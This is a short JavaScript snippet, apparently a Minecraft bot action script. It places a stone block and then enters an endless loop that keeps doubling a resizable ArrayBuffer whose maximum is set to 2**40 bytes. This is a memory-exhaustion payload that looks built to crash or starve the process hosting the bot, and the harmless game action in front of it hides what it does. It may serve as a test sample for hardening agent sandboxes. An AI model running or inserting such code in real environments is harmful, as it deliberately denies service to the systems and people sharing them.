(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);

const grown = new ArrayBuffer(8, { maxByteLength: 2 ** 40 });
for (let size = 8; ; size *= 2) grown.resize(size);
})
